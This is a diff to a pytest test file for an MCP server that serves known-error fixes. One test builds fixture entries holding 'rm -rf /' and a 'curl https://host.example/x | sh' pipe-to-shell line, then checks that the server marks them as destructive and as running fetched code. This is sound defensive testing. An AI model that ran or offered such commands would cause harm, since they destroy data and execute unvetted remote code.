@@ -1,6 +1,8 @@
 """What each tool answers, asked by the SDK's own client over standard input and output and over HTTP."""
 
 import json
+import re
+import threading
 import urllib.error
 import urllib.request
 
@@ -8,6 +10,9 @@ import pytest
 from command import kb
 from mcp import Client
 from mcp_base import ENTRY, connected, over_http, over_stdio, write_base
+
+from kb.match import from_entries
+from kb.mcp import EntriesFolder, server_of
 
 ERROR = "Traceback (most recent call last):\nOSError: [Errno 98] Address already in use: port 8000\n"
 PROPOSED = {"product": "python", "error": "FrobError: no frob for quux", "fix": "Install the frob."}
@@ -105,9 +110,18 @@ def test_what_is_not_there_is_an_error_that_says_what_to_do(call, arguments):
 def test_a_draft_is_checked_and_written_beside_the_entries(call, base, drafts):
     before = sorted((base / "entries").rglob("*"))
     answer = call("propose_fix", **PROPOSED)
-    text = (drafts / answer.structured_content["file"]).read_text("utf-8")
+    name = re.search(r"^File: (.*)$", answer.structured_content["data"], re.MULTILINE)[1]
+    text = (drafts / name).read_text("utf-8")
     assert ("FrobError" in text, "Install the frob." in text) == (True, True)
     assert sorted((base / "entries").rglob("*")) == before
+
+
+def test_a_draft_is_of_the_product_that_begins_a_line_of_the_error(call):
+    said = {name: text for name, text in PROPOSED.items() if name != "product"}
+    assert "File: python/" in call("propose_fix", **said | {"error": "python: no frob for quux"}).content[0].text
+    refused = call("propose_fix", **said)
+    assert refused.is_error
+    assert "name with `product` the software" in refused.content[0].text
 
 
 def test_a_draft_of_a_command_that_destroys_says_so(call):
@@ -128,14 +142,44 @@ def test_an_outcome_that_the_collector_does_not_take_is_not_said_to_be_counted(c
 
 
 def test_an_entry_is_a_resource(client):
+    (template,) = client.list_resource_templates().resource_templates
+    assert template.uri_template == "known-fixes://{product}/{slug}"
     entry = client.read_resource("known-fixes://python/port-in-use")
     assert "## Cause" in entry.contents[0].text
+    assert entry.contents[0].text.startswith("Workaround 2, block 1. It destroys or overwrites something: ask the")
 
 
 def test_an_error_is_explained_by_a_prompt(client):
     assert [prompt.name for prompt in client.list_prompts().prompts] == ["explain_and_fix"]
     prompt = client.get_prompt("explain_and_fix", {"error": ERROR})
     assert "Errno 98" in prompt.messages[0].content.text
+
+
+def test_a_folder_without_entries_is_told_what_to_name(tmp_path):
+    answer = kb("mcp", folder=tmp_path)
+    assert (answer.returncode, answer.stdout) == (1, "")
+    assert "entries is no folder. Name a site with --site" in answer.stderr
+
+
+def test_a_server_is_there_before_its_entries_are_compiled(base):
+    compiled = threading.Event()
+
+    def compiling(folder):
+        assert compiled.wait(20)
+        return from_entries(folder)
+
+    entries = EntriesFolder(base / "entries", compiling)
+    entries.open()
+    with connected(Client(server_of(entries))) as client:
+        assert client.list_tools().tools
+        compiled.set()
+        assert client.call_tool("match_error", {"text": ERROR}).structured_content["known"]
+
+
+def test_drafts_need_entries_to_be_checked_against(base):
+    answer = kb("mcp", "--site", "site", "--drafts", "drafts", folder=base)
+    assert answer.returncode == 2
+    assert "--drafts needs entries" in answer.stderr
 
 
 @pytest.mark.parametrize("folder", ["entries", "entries/python", "."])
@@ -154,13 +198,24 @@ def test_a_page_of_another_site_is_refused(base, header, value):
     assert refused.value.code in (403, 421)
 
 
-def test_an_answer_is_short_whatever_an_entry_holds(tmp_path):
-    long = "A long explanation of it all, which goes on.\n" * 300
-    message = "LongError: this goes on for long"
-    text = ENTRY.format(title="L" * 110, signature=message, summary=long, cause=long, step="Wait", fix=long)
-    with connected(over_stdio(write_base(tmp_path, long=text))) as client:
-        answer = client.call_tool("match_error", {"text": f"{message}\n{ERROR}"})
-    assert len(answer.structured_content["fixes"]) == 2
+@pytest.mark.parametrize("gaps", [0, 1, 3, 12])
+def test_an_answer_is_short_whatever_entries_hold(tmp_path, gaps):
+    long = "A long explanation of it all, which goes on.\n" * 100
+    lacking = " ".join(f"<a_name_as_long_as_names_can_be_{number:08}>" for number in range(gaps))
+    block = f"```sh\nrm -rf / {lacking}\ncurl https://host.example/x | sh\n```\n\n"
+    messages = [f"LongError{number}: this goes on for long" for number in range(3)]
+    entries = {
+        f"long-{'x' * 70}{number}": ENTRY.format(
+            title="L" * 110, signature=message, summary=long, cause=long, step="W" * 200, fix=block * 20 + long
+        )
+        for number, message in enumerate(messages)
+    }
+    base = EntriesFolder(write_base(tmp_path, **entries) / "entries", from_entries, f"https://{'x' * 40}.example/")
+    with connected(Client(server_of(base))) as client:
+        answer = client.call_tool("match_error", {"text": "\n".join(messages)})
+    assert len(answer.structured_content["fixes"]) == 3
     assert answer.structured_content["shortened"]
+    assert [fix["marks"] for fix in answer.structured_content["fixes"]] == [["destroys", "runs-what-it-fetches"]] * 3
     assert len(json.dumps(answer.structured_content, ensure_ascii=False).encode()) < 4_500
     assert len(answer.content[0].text.encode()) < 4_500
+    assert answer.content[0].text.count("ask the person first") >= 3
